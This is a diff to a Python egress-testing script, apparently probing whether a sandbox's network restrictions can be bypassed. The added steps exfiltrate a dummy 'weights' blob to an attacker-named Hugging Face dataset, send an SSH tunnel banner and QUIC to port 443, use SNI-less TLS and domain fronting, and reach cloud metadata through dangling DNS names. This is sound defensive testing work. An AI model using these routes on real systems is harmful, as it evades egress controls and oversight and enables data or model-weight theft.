@@ -15,6 +15,8 @@ from clients import AUTHORITY
 from pipeline import TIMEOUT
 
 BLOCKED, USELESS, REACHED = "blocked", "useless", "REACHED"
+# Bytes of a small model.
+WEIGHTS = 4 << 20
 METADATA = "169.254.169.254"
 # As in outside/internet.zone. An attacker brings such a list along.
 HUB, HUB_ADDRESS = "huggingface.co", "198.51.100.10"
@@ -39,13 +41,13 @@ def outcome(act):
 
 def https(host, method, path, body=None, at=None, claim=None, headers=None, verify=True):
     """A request to `host`, wherever its name leads, or to the address `at`. `claim`: the name in the handshake, if
-    another. Returns status and body."""
+    another; empty for none. Returns status and body."""
     context = ssl.create_default_context(cafile=AUTHORITY) if verify else ssl._create_unverified_context()
     with socket.create_connection((at or host, 443), timeout=TIMEOUT) as stream:
         # Longer, for what is open may be slow.
         stream.settimeout(5 * TIMEOUT)
         connection = http.client.HTTPConnection(host)
-        connection.sock = context.wrap_socket(stream, server_hostname=claim or host)
+        connection.sock = context.wrap_socket(stream, server_hostname=(host if claim is None else claim) or None)
         connection.request(method, path, body=body, headers=headers or {})
         answer = connection.getresponse()
         return answer.status, answer.read()
@@ -155,18 +157,31 @@ def opens(port):
 
 
 def uploads():
+    weights = "c2VjcmV0" * (WEIGHTS // 8)
     lines = [
         {"key": "header", "value": {"summary": "weights", "description": ""}},
-        {"key": "file", "value": {"path": "drop.b64", "encoding": "base64", "content": "c2VjcmV0"}},
+        {"key": "file", "value": {"path": "drop.b64", "encoding": "base64", "content": weights}},
     ]
     body = "\n".join(json.dumps(line) for line in lines)
     kind = {"Content-Type": "application/x-ndjson", "Authorization": "Bearer hf_attackers"}
     return asks(HUB, "POST", "/api/datasets/attacker/drop/commit/main", body, headers=kind)()
 
 
-VERBS = "what is done at an allowed host is not told apart yet"
-NAMES = "names of one address are not told apart yet"
+def says(address, port, text):
+    """Speaks something of its own to an open port."""
 
+    def act():
+        with socket.create_connection((address, port), timeout=TIMEOUT) as stream:
+            stream.sendall(text)
+            answer = stream.recv(64)
+            return (REACHED, f"{len(answer)} bytes came back") if answer else (BLOCKED, "closed without an answer")
+
+    return lambda: outcome(act)
+
+
+INSIDE = "what is asked for inside TLS is not looked into yet"
+
+nameless = asks(PAGES, "POST", "/", b"c2VjcmV0", at=EDGE_ADDRESS, claim="", verify=False)
 fronted = asks(PAGES, "POST", "/", b"c2VjcmV0", at=EDGE_ADDRESS, claim=EDGE)
 
 # (step, target, what to do, the limit if it is not closed yet)
@@ -185,7 +200,10 @@ STEPS = [
     ("resolver-on-another-port", f"{RESOLVER_ADDRESS} 5353/UDP", datagram(RESOLVER_ADDRESS, 5353), ""),
     ("name-that-leads-to-metadata", "forgotten-1.us.aws.cdn.hf.co", resolved("forgotten-1.us.aws.cdn.hf.co", opens(80)), ""),
     ("name-that-leads-to-a-pod", "forgotten-2.us.aws.cdn.hf.co", resolved("forgotten-2.us.aws.cdn.hf.co", opens(6333)), ""),
-    ("other-name-of-an-allowed-address", f"{PAGES} at {EDGE_ADDRESS} 443/TCP", pinned(PAGES, EDGE_ADDRESS), NAMES),
-    ("other-name-behind-an-allowed-one", f"{PAGES}, as {EDGE}", fronted, NAMES),
-    ("upload-to-the-allowed-hub", f"{HUB}, a commit", uploads, VERBS),
+    ("other-name-of-an-allowed-address", f"{PAGES} at {EDGE_ADDRESS} 443/TCP", pinned(PAGES, EDGE_ADDRESS), ""),
+    ("no-name-in-the-handshake", f"{EDGE_ADDRESS} 443/TCP, without a name", nameless, ""),
+    ("tunnel-to-an-allowed-address", f"{EDGE_ADDRESS} 443/TCP, SSH", says(EDGE_ADDRESS, 443, b"SSH-2.0-tunnel\r\n"), ""),
+    ("quic-to-an-allowed-address", f"{EDGE_ADDRESS} 443/UDP", datagram(EDGE_ADDRESS, 443), ""),
+    ("other-name-behind-an-allowed-one", f"{PAGES}, as {EDGE}", fronted, INSIDE),
+    ("upload-to-the-allowed-hub", f"{HUB}, a commit of {WEIGHTS >> 20} MiB", uploads, ""),
 ]
